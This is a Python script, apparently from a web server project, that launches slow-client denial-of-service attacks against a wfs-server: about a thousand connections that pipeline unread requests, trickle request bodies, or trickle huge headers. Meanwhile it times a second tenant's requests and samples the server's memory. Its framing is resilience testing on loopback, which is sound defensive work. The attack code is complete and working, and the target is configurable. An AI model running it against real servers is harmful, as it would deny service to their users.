#!/usr/bin/env python3
"""Slow-client attacks on a running wfs-server, and what another tenant sees meanwhile.

    scripts/attack-slow-clients.py SCENARIO --server 127.0.0.1:8080 [--pid PID] [options]

Scenarios (issue 18), each run from one attacking address (--sources to use more):
  pipeline  --conns 1030 connections each pipeline 40 `GET /external/v1/openapi.json`
            (134 KB answers) and never read a byte.
  body      --conns 1100 connections each send a `POST /external/v1/auth/signin` head
            announcing a 100-byte body, then the body one byte every 1.5 s.
  head      --conns 1000 connections each trickle a 900 KB request head
            (--chunk bytes every --every seconds).
An attacking connection the server closes is opened again after --reconnect seconds,
as a determined attacker would.

Meanwhile the tenant, from --tenant-source (127.0.0.2: another address on Linux's
loopback), sends `GET --tenant-path` on a new connection every --tenant-every seconds
and times each answer (30 s at most). With --pid, the server's VmRSS is sampled every
0.5 s. At the end it prints one JSON line: the tenant's answer times (median, p95,
max), failures, the attack's connection counts, and the server's RSS before and at its
peak.

The script raises its own open-file limit to the hard limit (`ulimit -n`); it needs
about one descriptor per attacking connection.
"""

import argparse
import asyncio
import json
import resource
import statistics
import time

OPENAPI = b"GET /external/v1/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n"
SIGN_IN_HEAD = (
    b"POST /external/v1/auth/signin HTTP/1.1\r\nHost: x\r\n"
    b"Content-Type: application/json\r\nContent-Length: 100\r\n\r\n"
)


class Stats:
    def __init__(self):
        self.opened = 0
        self.closed_by_server = 0
        self.connect_errors = 0
        self.open_now = 0
        self.peak_open = 0


async def attacker(args, source, stats, stop):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(args.host, args.port, local_addr=(source, 0)), 30
            )
        except (OSError, asyncio.TimeoutError):
            stats.connect_errors += 1
            await asyncio.sleep(args.reconnect)
            continue
        stats.opened += 1
        stats.open_now += 1
        stats.peak_open = max(stats.peak_open, stats.open_now)
        try:
            if args.scenario == "pipeline":
                writer.write(OPENAPI * 40)
                await writer.drain()
                # Never read; a blank line now and then finds out about a close.
                while not stop.is_set():
                    await asyncio.sleep(2)
                    writer.write(b"\r\n")
                    await writer.drain()
                    if writer.transport.is_closing():
                        break
            elif args.scenario == "body":
                writer.write(SIGN_IN_HEAD)
                await writer.drain()
                for _ in range(100):
                    if stop.is_set():
                        break
                    await asyncio.sleep(1.5)
                    writer.write(b" ")
                    await writer.drain()
                    if reader.at_eof() or writer.transport.is_closing():
                        break
            else:
                writer.write(b"GET /livez HTTP/1.1\r\nHost: x\r\nX-Filler: ")
                sent = 0
                while sent < 900 * 1024 and not stop.is_set():
                    writer.write(b"a" * args.chunk)
                    await writer.drain()
                    sent += args.chunk
                    await asyncio.sleep(args.every)
                    if reader.at_eof() or writer.transport.is_closing():
                        break
                writer.write(b"\r\n\r\n")
                await writer.drain()
                # Let the answer (431, or the 200) arrive, then close.
                await asyncio.wait_for(reader.read(1024), 15)
        except (OSError, asyncio.TimeoutError, ConnectionError):
            pass
        finally:
            stats.open_now -= 1
            stats.closed_by_server += 1
            writer.transport.abort()
        await asyncio.sleep(args.reconnect)


async def read_answer(reader):
    head = await reader.readuntil(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1])
    length = 0
    for line in head.split(b"\r\n"):
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value.strip())
    await reader.readexactly(length)
    return status


async def tenant(args, times, failures, stop):
    request = f"GET {args.tenant_path} HTTP/1.1\r\nHost: x\r\n".encode()
    for header in args.tenant_header:
        request += header.encode() + b"\r\n"
    request += b"\r\n"
    while not stop.is_set():
        began = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(
                    args.host, args.port, local_addr=(args.tenant_source, 0)
                ),
                30,
            )
            writer.write(request)
            left = 30 - (time.monotonic() - began)
            status = await asyncio.wait_for(read_answer(reader), max(left, 0.1))
            writer.transport.abort()
            took = time.monotonic() - began
            if status == 200:
                times.append(took)
            else:
                failures.append(f"status {status} after {took:.2f} s")
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ValueError) as err:
            failures.append(f"{type(err).__name__} after {time.monotonic() - began:.2f} s")
        await asyncio.sleep(args.tenant_every)


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as status:
        fields = dict(
            line.split(":", 1) for line in status.read().splitlines() if ":" in line
        )
    return int(fields["VmRSS"].split()[0]), int(fields["VmHWM"].split()[0])


async def sample_rss(pid, peak, stop):
    while not stop.is_set():
        try:
            rss, _ = rss_kib(pid)
            peak[0] = max(peak[0], rss)
        except (OSError, KeyError):
            pass
        await asyncio.sleep(0.5)


async def main(args):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    args.host, _, port = args.server.rpartition(":")
    args.port = int(port)
    stats, times, failures, stop, peak = Stats(), [], [], asyncio.Event(), [0]
    rss_before = rss_kib(args.pid)[0] if args.pid else None
    tasks = []
    if args.pid:
        tasks.append(asyncio.create_task(sample_rss(args.pid, peak, stop)))
    sources = args.sources.split(",")
    for n in range(args.conns):
        tasks.append(asyncio.create_task(attacker(args, sources[n % len(sources)], stats, stop)))
        if n % 100 == 99:
            await asyncio.sleep(0.05)
    await asyncio.sleep(args.warmup)
    tenant_task = asyncio.create_task(tenant(args, times, failures, stop))
    await asyncio.sleep(args.duration)
    stop.set()
    await asyncio.wait([tenant_task], timeout=35)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    times.sort()
    report = {
        "scenario": args.scenario,
        "attacking_connections": args.conns,
        "sources": len(sources),
        "duration_s": args.duration,
        "tenant_answers": len(times),
        "tenant_median_s": round(statistics.median(times), 3) if times else None,
        "tenant_p95_s": round(times[int(len(times) * 0.95) - 1], 3) if len(times) >= 20 else None,
        "tenant_max_s": round(times[-1], 3) if times else None,
        "tenant_failures": failures[:10],
        "tenant_failure_count": len(failures),
        "attack_connections_opened": stats.opened,
        "attack_peak_open": stats.peak_open,
        "attack_connect_errors": stats.connect_errors,
        "nofile_limit": hard,
    }
    if args.pid:
        report["server_rss_before_mib"] = round(rss_before / 1024, 1)
        report["server_rss_peak_mib"] = round(peak[0] / 1024, 1)
    print(json.dumps(report))


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("scenario", choices=["pipeline", "body", "head"])
    parser.add_argument("--server", default="127.0.0.1:8080")
    parser.add_argument("--pid", type=int, help="the server's pid, to sample its RSS")
    parser.add_argument("--conns", type=int, help="attacking connections (default: the scenario's)")
    parser.add_argument("--sources", default="127.0.0.1", help="comma-separated attacking addresses")
    parser.add_argument("--duration", type=float, default=60, help="seconds the tenant is measured")
    parser.add_argument("--warmup", type=float, default=5, help="seconds of attack before the tenant starts")
    parser.add_argument("--reconnect", type=float, default=1.0)
    parser.add_argument("--chunk", type=int, default=16 * 1024, help="head: bytes per write")
    parser.add_argument("--every", type=float, default=0.25, help="head: seconds between writes")
    parser.add_argument("--tenant-source", default="127.0.0.2")
    parser.add_argument("--tenant-path", default="/livez")
    parser.add_argument("--tenant-header", action="append", default=[], help="e.g. 'x-api-key: api_...'")
    parser.add_argument("--tenant-every", type=float, default=0.25)
    args = parser.parse_args()
    if args.conns is None:
        args.conns = {"pipeline": 1030, "body": 1100, "head": 1000}[args.scenario]
    asyncio.run(main(args))
